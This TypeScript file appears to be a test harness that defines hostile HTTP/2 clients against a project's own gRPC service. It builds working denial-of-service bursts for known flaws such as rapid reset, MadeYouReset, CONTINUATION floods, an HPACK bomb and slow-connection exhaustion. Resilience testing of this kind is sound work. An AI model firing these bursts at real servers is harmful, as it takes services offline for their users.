// The attacks. Each one is a hostile client that sends burst after burst, as long as the server accepts it.
import {
  Flag,
  FrameType,
  callHeaders,
  frame,
  grpcMessage,
  headerBlock,
  hpackInteger,
  PREFACE,
  settings,
  uint32,
} from '../wire.ts';

export interface Attack {
  readonly name: string;
  /** Its CVE or name. */
  readonly reference: string;
  /** The number of connections; a closed one is opened again. */
  readonly connections: number;
  /** Whether the attacker reads the server's answers. */
  readonly reads: boolean;
  /** Time between two bursts of a connection, milliseconds. 0: as fast as the server accepts them. */
  readonly pauseMs: number;
  /** Whether the connection begins with a preface and SETTINGS; `begin` may give other SETTINGS. */
  readonly hasPreface: boolean;
  readonly begin?: Buffer;
  /** The bytes of one burst. `burst` counts from 0 on each connection. */
  burst(burst: number): Buffer;
}

const PATH = '/tandem.v1.ReasoningService/Reason';
const HEADERS = callHeaders(PATH);
const CANCEL = uint32(8);
const FRAMES_A_BURST = 400;
const INITIAL_WINDOW = 4;
/** Odd, and never used before on its connection. */
const streamOf = (burst: number, at: number, perBurst: number): number => 2 * (burst * perBurst + at) + 1;

const repeat = (bytes: Buffer, times: number): Buffer => Buffer.concat(Array.from({ length: times }, () => bytes));

/** A burst of `streams` calls, each with the frames of `of`. */
function calls(perBurst: number, of: (stream: number) => Buffer[]): (burst: number) => Buffer {
  return (burst) =>
    Buffer.concat(Array.from({ length: perBurst }, (_, at) => of(streamOf(burst, at, perBurst))).flat());
}

function attack(name: string, reference: string, of: Partial<Attack> & Pick<Attack, 'burst'>): Attack {
  return { name, reference, connections: 1, reads: true, pauseMs: 0, hasPreface: true, ...of };
}

const open = (stream: number): Buffer => frame(FrameType.HEADERS, Flag.END_HEADERS, stream, HEADERS);

/** 4,000 bytes in the dynamic table, then one byte a reference to them. */
const BOMB_FIELD = headerBlock([['x-bomb', 'b'.repeat(3_900)]], true);
const BOMB = Buffer.concat([HEADERS, repeat(hpackInteger(62, 7, 0x80), 16_000 - HEADERS.length)]);

export const ATTACKS: readonly Attack[] = [
  attack('rapid reset', 'CVE-2023-44487', {
    burst: calls(100, (stream) => [open(stream), frame(FrameType.RST_STREAM, 0, stream, CANCEL)]),
  }),
  attack('rapid reset, answers unread', 'CVE-2023-44487', {
    reads: false,
    burst: calls(100, (stream) => [open(stream), frame(FrameType.RST_STREAM, 0, stream, CANCEL)]),
  }),
  attack('MadeYouReset: window of 0', 'CVE-2025-8671', {
    burst: calls(100, (stream) => [open(stream), frame(FrameType.WINDOW_UPDATE, 0, stream, uint32(0))]),
  }),
  attack('MadeYouReset: window overflow', 'CVE-2025-8671', {
    burst: calls(100, (stream) => [open(stream), frame(FrameType.WINDOW_UPDATE, 0, stream, uint32(0x7fffffff))]),
  }),
  attack('MadeYouReset: depends on itself', 'CVE-2025-8671', {
    reads: false,
    burst: calls(100, (stream) => [
      open(stream),
      frame(FrameType.PRIORITY, 0, stream, Buffer.concat([uint32(stream), Buffer.from([16])])),
    ]),
  }),
  attack('CONTINUATION without an end', 'CVE-2024-27316', {
    burst: (burst) =>
      Buffer.concat([
        ...(burst === 0 ? [frame(FrameType.HEADERS, 0, 1, HEADERS)] : []),
        repeat(frame(FrameType.CONTINUATION, 0, 1, headerBlock([['x-more', 'm'.repeat(1_000)]])), 60),
      ]),
  }),
  attack('empty CONTINUATION', 'CVE-2024-27316', {
    burst: (burst) =>
      Buffer.concat([
        ...(burst === 0 ? [frame(FrameType.HEADERS, 0, 1, HEADERS)] : []),
        repeat(frame(FrameType.CONTINUATION, 0, 1), FRAMES_A_BURST),
      ]),
  }),
  attack('HPACK bomb', 'CVE-2016-6581', {
    burst: (burst) => {
      const filling = frame(FrameType.HEADERS, Flag.END_HEADERS, 1, Buffer.concat([HEADERS, BOMB_FIELD]));
      const bombs = Array.from({ length: 4 }, (_, at) =>
        frame(FrameType.HEADERS, Flag.END_HEADERS, streamOf(burst, at, 4) + 2, BOMB),
      );
      return Buffer.concat([...(burst === 0 ? [filling] : []), ...bombs]);
    },
  }),
  attack('empty header names', 'CVE-2019-9516', {
    burst: calls(20, (stream) => [
      frame(FrameType.HEADERS, Flag.END_HEADERS, stream, Buffer.concat([HEADERS, repeat(Buffer.alloc(3), 1_000)])),
    ]),
  }),
  attack('PING, answers unread', 'CVE-2019-9512', {
    reads: false,
    burst: () => repeat(frame(FrameType.PING, 0, 0, Buffer.alloc(8)), FRAMES_A_BURST),
  }),
  attack('SETTINGS, answers unread', 'CVE-2019-9515', {
    reads: false,
    burst: () => repeat(settings(), FRAMES_A_BURST),
  }),
  attack('PRIORITY', 'CVE-2019-9513', {
    burst: () => repeat(frame(FrameType.PRIORITY, 0, 1, Buffer.concat([uint32(3), Buffer.from([16])])), FRAMES_A_BURST),
  }),
  attack('WINDOW_UPDATE by 1', 'a frame that costs more than it brings', {
    burst: () => repeat(frame(FrameType.WINDOW_UPDATE, 0, 0, uint32(1)), FRAMES_A_BURST),
  }),
  attack('empty DATA', 'CVE-2019-9518', {
    burst: (burst) =>
      Buffer.concat([...(burst === 0 ? [open(1)] : []), repeat(frame(FrameType.DATA, 0, 1), FRAMES_A_BURST)]),
  }),
  attack('slow prefaces', 'slow HTTP', {
    connections: 500,
    hasPreface: false,
    pauseMs: 1_000,
    burst: (burst) => PREFACE.subarray(burst, burst + 1),
  }),
  attack('half calls', 'slow HTTP', {
    connections: 10,
    pauseMs: 1_000,
    burst: (burst) =>
      burst > 0
        ? Buffer.alloc(0)
        : calls(100, (stream) => [
            open(stream),
            frame(FrameType.DATA, 0, stream, grpcMessage(Buffer.alloc(500)).subarray(0, 300)),
          ])(0),
  }),
  attack('stalled readers', 'CVE-2019-9511, -9517', {
    connections: 10,
    reads: false,
    pauseMs: 100,
    begin: settings({ [INITIAL_WINDOW]: 0 }),
    burst: calls(100, (stream) => [
      open(stream),
      frame(FrameType.DATA, Flag.END_STREAM, stream, grpcMessage(Buffer.alloc(0))),
    ]),
  }),
  attack('frames of unknown types', 'RFC 9113, section 5.5', {
    burst: () => repeat(frame(0xbb, 0, 0, Buffer.alloc(16)), FRAMES_A_BURST),
  }),
];
